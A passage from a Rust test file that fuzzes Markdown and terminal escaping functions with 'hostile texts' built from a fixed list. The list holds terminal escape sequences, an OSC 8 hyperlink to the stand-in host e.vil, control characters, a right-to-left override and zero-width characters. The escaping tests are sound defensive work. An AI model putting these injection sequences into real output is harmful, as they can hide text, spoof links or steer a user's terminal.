    "a",
];

/// Characters that steer a viewer or a terminal instead of being seen.
const STEERING: [&str; 16] = [
    "\u{1b}[31m",
    "\u{1b}]8;;http://e.vil\u{7}",
    "\u{9b}2J",
    "\u{0}",
    "\u{8}",
    "\u{7f}",
    "\u{85}",
    "\u{202e}",
    "\u{2066}",
    "\u{200b}",
    "\u{200d}",
    "\u{2028}",
    "\u{2060}",
    "\u{feff}",
    "\u{e0041}",
    "\u{f8fe}",
];

/// Numbers that look random and are the same in every run (xorshift).
struct Rolls(u64);

impl Rolls {
    fn below(&mut self, count: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 16) as usize % count
    }

    fn hostile_text(&mut self) -> String {
        let piece = |rolls: &mut Rolls| {
            if rolls.below(6) == 0 { STEERING[rolls.below(STEERING.len())] } else { PIECES[rolls.below(PIECES.len())] }
        };
        (0..1 + self.below(12)).map(|_| piece(self)).collect()
    }
}

#[test]
fn the_check_for_live_parts_sees_them() {
    let live = ["![x](y)", "[x](y)", "<b>", "<http://e.vil>", "see http://e.vil", "www.e.vil", "a@e.vil", "[x]\n\n[x]: y", "$x$", "[[x]]"];
    let of_viewers =
        ["a #tag", "%%hidden%%", "==marked==", "![[map]]", "words ^id", "`= this.x`", "mood:: dark", "so :smile: it is", ":+1:"];
    let live = live.into_iter().chain(of_viewers);
    for text in live {
        assert_ne!(live_parts(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn four_thousand_hostile_texts_are_escaped() {
    let mut rolls = Rolls(0x5eed);
    for _ in 0..4000 {
        let text = rolls.hostile_text();
        let safe = crate::text::escape::for_markdown(&text);
        for around in [safe.clone(), format!("# {safe}\n\n> “{safe}” ({safe})\n\n- {safe}: {safe}\n")] {
            assert_eq!(live_parts(&around), Vec::<String>::new(), "{text:?} became {around:?}");
        }
        let shown = crate::text::escape::for_terminal(&text);
        assert!(!shown.chars().any(crate::text::escape::is_unsafe), "{text:?} became {shown:?}");
    }
}

#[test]
fn hostile_text_brings_nothing_in_a_report_to_life() {
    let mut rolls = Rolls(0xb00c);
    let mut reports = 0;
    for _ in 0..150 {
        let text = rolls.hostile_text();
        let mut contents = contents();
        contents.title = text.clone();
        contents.books[0].title = text.clone();
        contents.books[0].chapters[1].title = text.clone();
        let scopes = [Scope::Chapter(path("book-1/ch-03.md")), Scope::Book(text.clone()), Scope::Series];
        let results: Vec<ScriptResult> = scopes.into_iter().map(|scope| hostile_result(&text, scope)).collect();
        let (files, problems) = markdown::files(&results, &contents, &shipped());
        assert_eq!(problems, [], "{text:?}");
        for file in files {
            assert_eq!(live_parts(&file.text), Vec::<String>::new(), "{text:?} became {}", file.text);
            reports += 1;
        }
        let summary = RunSummary { results, ..RunSummary::default() };
        for shown in [terminal::findings(&summary.findings(), &sources, false), terminal::summary_lines(&summary)] {
            assert!(!shown.chars().any(|c| c != '\n' && crate::text::escape::is_unsafe(c)), "{text:?} became {shown}");
        }
    }
    assert!(reports >= 450, "{reports}");
}
